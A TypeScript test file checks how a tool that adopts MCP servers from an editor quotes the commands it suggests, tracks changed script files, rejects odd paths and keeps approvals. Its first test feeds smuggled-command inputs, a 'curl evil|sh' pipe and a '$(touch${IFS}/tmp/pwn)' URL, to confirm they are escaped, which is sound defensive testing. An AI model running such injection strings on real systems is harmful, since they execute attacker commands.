import assert from "node:assert/strict";
import { dirname, join } from "node:path";
import type { McpServer } from "@agentclientprotocol/sdk";
import { loadConfig } from "../../config/files.ts";
import { type FreshCommand, freshCommand } from "../_fixture/mcp_command.ts";
import { fakeKernel } from "../_fixture/world.ts";
import { type Json, toJson } from "../../contracts/base/mod.ts";
import { McpServerName } from "../../contracts/exchange/mod.ts";
import { readMcpLoan } from "../../bridges/mcp/registry/secrets.ts";
import { PLAIN, wordsOf } from "../_fixture/mcp_rig.ts";
import { lockOf, registryOf } from "../mcp/work.ts";
import { readHanded } from "./handed.ts";
import { makeHandedServers } from "./servers.ts";

/** What mallory's project has an editor hand over, `parts` of it otherwise. */
function stdio(parts: Partial<Extract<McpServer, { readonly command: string }>> = {}): McpServer {
  return { name: "x", command: "node", args: [], env: [], ...parts };
}

/** Servers of a session over alice's folder; each question is answered with `allow`, and all that is told is kept. */
async function session(
  servers: readonly McpServer[],
  { command = freshCommand(), yaml = "", allow = false }: {
    readonly command?: FreshCommand;
    readonly yaml?: string;
    readonly allow?: boolean;
  } = {},
) {
  const { powers: { disk, environment }, places } = command;
  disk.makeFolder(dirname(places.config), 0o700);
  disk.write(places.config, `version: 1\n${yaml}`);
  const folder = environment.cwd;
  const config = loadConfig(disk, places, { folder, mounts: [] });
  const { link } = await fakeKernel({ mcpLend: () => null });
  const handed = makeHandedServers(command, { servers, setting: { folder, config }, link });
  const told: string[] = [], asked: string[] = [];
  const settle = async () => {
    const found = await handed.settle({
      voice: {
        update: () => Promise.resolve(),
        ask: ({ toolCall }) => {
          asked.push(toolCall.toolCallId);
          return Promise.resolve(allow ? "allow" : "deny");
        },
        text: () => Promise.resolve(undefined),
      },
      signal: new AbortController().signal,
    }, (text) => Promise.resolve(void told.push(text)));
    return { found, told: told.join("\n") };
  };
  return { command, folder, told, asked, settle };
}

Deno.test("the command that alice is told to type runs nothing but what it says", async () => {
  const typed = async (server: McpServer): Promise<string> => {
    const at = await session([server]);
    return (await at.settle()).told;
  };
  assert.match(
    await typed(stdio({ args: ["/srv/x.js", ";", "curl", "evil|sh", "it's"] })),
    /type in a terminal: `remit mcp add x -- node \/srv\/x\.js ';' curl 'evil\|sh' 'it'\\''s'`$/,
  );
  const url = { type: "http" as const, name: "x", url: "https://e.org/$(touch${IFS}/tmp/pwn)" };
  assert.match(
    await typed({ ...url, headers: [{ name: "X-Key", value: "k" }] }),
    /`remit mcp add x 'https:\/\/e\.org\/\$\(touch\$\{?[^ ]*\)' --header x-key`$/,
  );
  const long = await typed(stdio({ args: ["a".repeat(300), "b".repeat(300)] }));
  assert.match(long, /add it by its configuration file, `remit mcp import`$/);
  assert.doesNotMatch(long, /mcp add|aaa/);
  assert.doesNotMatch(await typed(stdio({ args: ["a`b"] })), /mcp add/);
});

Deno.test("a file that a command names is the server's own: with other bytes it is another server", () => {
  const command = freshCommand();
  const { powers: { disk, environment: { cwd } } } = command;
  const keyOf = (words: readonly string[]): string => {
    const [program = "", ...args] = words;
    const { same, code } = readHanded(registryOf(command), stdio({ command: program, args }), cwd);
    return `${same} ${code}`;
  };
  disk.makeFolder(join(cwd, "sub"));
  for (
    const [at, ...words] of [
      ["S.py", "uv", "run", "S.py"],
      ["S.py", "uv", "run", "--with", "mcp", "S.py"],
      ["sub/S.py", "uv", "--directory", "sub", "run", "S.py"],
      ["S.py", "sh", "-c", "python3 S.py"],
      ["S.py", "python3", "-W", "ignore", "S.py"],
      ["A.js", "node", "--import", "./A.js", "S.js"],
      ["A.js", "node", "--import=A.js", "S.js"],
    ]
  ) {
    const file = join(cwd, at ?? "");
    disk.write(file, "one");
    const before = keyOf(words);
    assert.equal(keyOf(words), before);
    disk.write(file, "two");
    assert.notEqual(keyOf(words), before, words.join(" "));
    // All but its bytes is the same.
    assert.equal(keyOf(words).split(" ")[0], before.split(" ")[0]);
  }
});

Deno.test("a device, a pipe, a socket and a name that can be none hold up nothing", async () => {
  const command = freshCommand();
  const { powers: { environment: { cwd } } } = command;
  const pipe = join(cwd, "pipe"), socket = join(cwd, "socket"), loop = join(cwd, "loop");
  await new Deno.Command("mkfifo", { args: [pipe] }).output();
  using _listener = Deno.listen({ transport: "unix", path: socket });
  await Deno.symlink(loop, loop);
  const odd = ["/dev/zero", pipe, socket, loop, `/${"a".repeat(400)}`, "/a\0b", "a".repeat(400)];
  for (const words of [...odd.map((path) => ["cat", path]), ...odd.map((path) => [path])]) {
    const [program = "", ...args] = words;
    const at = await session([stdio({ command: program, args })], { command });
    assert.match((await at.settle()).told, /is not used/, words.join(" ").slice(0, 40));
  }
});

/** Alice's command over a kernel in which a server answers a look with `words`, undefined: never. */
function looking(words: () => Json | undefined): FreshCommand {
  return freshCommand({
    ops: {
      mcpLend: () => null,
      mcpLook: () => {
        const said = words();
        return { accesses: [], errors: "", ...(said === undefined ? {} : { words: said }) };
      },
    },
  });
}
const plain = (): Json => toJson(wordsOf(PLAIN));
const CAT = { command: "/bin/cat", args: [] };
const env = (count: number, value = "v") =>
  Array.from({ length: count }, (_, n) => ({ name: `V${n}`, value }));

Deno.test("too many variables or headers are told before any question, and the prompt goes on", async () => {
  const at = await session([
    stdio({ ...CAT, name: "many", env: env(65) }),
    { type: "http", name: "headed", url: "https://e.org/", headers: env(17) },
    stdio({
      ...CAT,
      name: "fits",
      env: [...env(64), ...env(70, "").map((each) => ({ ...each, name: `LD_${each.name}` }))],
    }),
  ], { command: looking(plain), yaml: "selfConsent: true\n", allow: true });
  const { told } = await at.settle();
  assert.match(told, /"many" of your editor is not used: it brings too many variables or headers/);
  assert.match(
    told,
    /"headed" of your editor is not used: it brings too many variables or headers/,
  );
  assert.match(told, /"fits" of your editor is used/);
  assert.deepEqual(at.asked, ["server-fits-start", "server-fits-use"]);
});

Deno.test("an empty variable is left out and told of; a value that cannot be kept leaves no entry", async () => {
  const at = await session([
    stdio({
      ...CAT,
      name: "empty",
      env: [{ name: "FOO", value: "" }, { name: "BAR", value: "b" }],
    }),
    stdio({ ...CAT, name: "nul", env: [{ name: "FOO", value: "a\0b" }] }),
  ], { command: looking(plain), yaml: "selfConsent: true\n", allow: true });
  const { told, found } = await at.settle();
  assert.match(told, /"nul" of your editor is not used: Cannot keep the secret/);
  assert.deepEqual(found?.map(({ name, secretEnv }) => [name, secretEnv]), [["empty", ["BAR"]]]);
  const [kept, ...more] = lockOf(at.command).list();
  assert.deepEqual(more, []);
  assert.deepEqual(kept?.notes, ["variable FOO is empty: it is not handed over"]);
});

Deno.test("a look that fails takes nothing away of what was approved and granted", async () => {
  let words: Json | undefined = plain();
  const command = looking(() => words);
  const yaml = "selfConsent: true\n";
  const server = stdio({ ...CAT, env: env(1) });
  await (await session([server], { command, yaml, allow: true })).settle();
  const name = McpServerName.parse("x");
  const net = ["api.example.org:443"];
  lockOf(command).change(name, (each) => ({
    ...each,
    grants: { ...each.grants, net },
    reviewed: each.reviewed.map((tool, n) => n === 0 ? { ...tool, suspended: "it changed" } : tool),
  }));
  words = undefined;
  const failed = await session([server], { command, yaml, allow: true });
  assert.match((await failed.settle()).told, /is not used: it gave no answer/);
  words = plain();
  const denied = await session([server], { command, yaml });
  assert.match((await denied.settle()).told, /is not used: you left it out/);
  const kept = lockOf(command).need(name);
  assert.deepEqual([kept.state, kept.grants.net], ["approved", net]);
  assert.deepEqual(readMcpLoan(registryOf(command), name).env, { V0: "v" });
  const again = await session([server], { command, yaml, allow: true });
  assert.match((await again.settle()).told, /"x" of your editor is used/);
});

Deno.test("a script that is edited again and again leaves one entry, and another command beside it its own", async () => {
  const command = looking(plain);
  const { powers: { disk, environment: { cwd } } } = command;
  const script = join(cwd, "S.sh");
  const server = stdio({ command: "sh", args: [script] });
  const other = stdio({ command: "sh", args: [script], env: env(1) });
  for (const version of ["1", "2", "3", "4"]) {
    disk.write(script, version);
    const servers = version === "1" ? [other, server] : [server];
    const at = await session(servers, { command, yaml: "selfConsent: true\n", allow: true });
    const { told } = await at.settle();
    if (version !== "1") {
      assert.match(told, /the same command before its files changed, is removed/);
    }
  }
  const all = lockOf(command).list();
  assert.deepEqual(all.map(({ secretEnv }) => secretEnv.length).sort(), [0, 1]);
});

Deno.test("a note about a server is told once in a conversation", async () => {
  const command = looking(plain);
  const at = await session([stdio(CAT)], {
    command,
    yaml: "selfConsent: true\nmcp: { use: [x, gone] }\n",
    allow: true,
  });
  const note = /gone is left out/g;
  assert.equal((await at.settle()).told.match(note)?.length, 1);
  assert.equal((await at.settle()).told.match(note)?.length, 1);
});
